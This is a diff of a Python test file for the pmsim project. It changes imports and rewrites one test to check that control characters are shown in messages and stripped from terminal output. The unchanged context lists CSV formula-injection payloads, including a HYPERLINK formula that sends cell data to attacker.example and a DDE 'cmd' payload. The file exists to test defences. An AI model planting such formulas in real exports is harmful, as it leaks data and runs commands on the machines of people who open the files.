@@ -11,6 +11,7 @@ from __future__ import annotations
 import csv
 import html
 import io
+import re
 
 import pandas as pd
 import pytest
@@ -19,7 +20,8 @@ from hostile import small_project
 import pmsim as pm
 from pmsim.io.csv_files import csv_text
 from pmsim.report import build_report
-from pmsim.safe_text import neutralise_formula, restore_formula, terminal_text, visible
+from pmsim.safe_text import neutralise_formula, restore_formula, visible
+from pmsim.terminal_text import for_terminal
 
 # Each starts like a formula in Excel, LibreOffice or Google Sheets (OWASP's list: = + - @ tab CR).
 FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0",
@@ -169,6 +171,9 @@ def test_a_currency_that_is_not_an_iso_code_is_refused(currency):
     ("line\nbreak", "line\\x0abreak"),
     ("Plain text, café", "Plain text, café"),
 ])
-def test_terminal_text_shows_controls_instead_of_obeying_them(text, shown):
-    assert terminal_text(text) == shown
-    assert visible(text) == shown
+def test_controls_are_shown_in_messages_and_removed_on_a_terminal(text, shown):
+    assert visible(text) == shown  # an error message shows what the file holds
+    printed = for_terminal(text)  # the CLI prints text without anything a terminal would obey
+    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", printed)
+    if shown == text:
+        assert printed == text  # plain text prints as itself
